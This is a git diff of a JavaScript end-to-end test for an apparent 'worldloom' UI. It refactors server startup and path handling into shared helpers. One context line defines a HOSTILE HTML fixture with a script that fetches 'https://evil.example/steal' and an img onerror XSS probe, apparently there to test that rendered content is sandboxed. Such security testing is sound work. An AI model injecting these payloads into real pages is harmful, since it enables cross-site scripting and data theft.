@@ -12,19 +12,13 @@
 //
 // The binary is $WORLDLOOM_BIN, else $CARGO_TARGET_DIR/debug/worldloom.
 // Screenshots go to e2e/screenshots/lesson-*.png.
-import { spawn } from "node:child_process";
-import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
-import { dirname, join, resolve } from "node:path";
-import { fileURLToPath, pathToFileURL } from "node:url";
-import { launch } from "./browser.mjs";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { launch, places, serve } from "./browser.mjs";
 
-const here = dirname(fileURLToPath(import.meta.url));
-const uiDir = resolve(here, "..");
-const repo = resolve(uiDir, "..");
-const shots = join(here, "screenshots");
-mkdirSync(shots, { recursive: true });
-const bin = process.env.WORLDLOOM_BIN ?? join(process.env.CARGO_TARGET_DIR ?? join(repo, "target"), "debug", "worldloom");
+const { uiDir, repo, shots, bin } = places();
 const web = join(repo, "samples", "web", "agentlab_larkmail-reply_6steps.json");
 const os = join(repo, "samples", "os", "thunar_rename_trajectory");
 const HOSTILE = `<html><body><h1>Predicted inbox</h1><script>fetch("https://evil.example/steal")</script><img src="https://evil.example/p.png" onerror="alert(1)"></body></html>`;
@@ -36,32 +30,7 @@ function check(ok, what) {
 }
 
 const work = mkdtempSync(join(tmpdir(), "worldloom-e2e-lesson-"));
-const server = spawn(bin, ["serve", "--port", "0", "--workspace", join(work, "lesson.worldloom"), "--ui-dir", join(uiDir, "dist"), web, os], {
-  detached: true,
-  stdio: ["ignore", "pipe", "pipe"],
-});
-const stop = () => {
-  try {
-    process.kill(-server.pid, "SIGTERM");
-  } catch {
-    // already gone
-  }
-};
-process.on("exit", stop);
-const url = await new Promise((ok, fail) => {
-  let seen = "";
-  const timer = setTimeout(() => fail(new Error(`worldloom serve printed no URL:\n${seen}`)), 90_000);
-  const onData = (chunk) => {
-    seen += chunk.toString();
-    const m = seen.match(/http:\/\/127\.0\.0\.1:\d+\/\?token=[A-Za-z0-9_-]+/);
-    if (m) {
-      clearTimeout(timer);
-      ok(m[0]);
-    }
-  };
-  server.stdout.on("data", onData);
-  server.stderr.on("data", onData);
-});
+const { url, stop } = await serve(bin, ["--port", "0", "--workspace", join(work, "lesson.worldloom"), "--ui-dir", join(uiDir, "dist"), web, os]);
 const origin = new URL(url).origin;
 const token = new URL(url).searchParams.get("token");
 
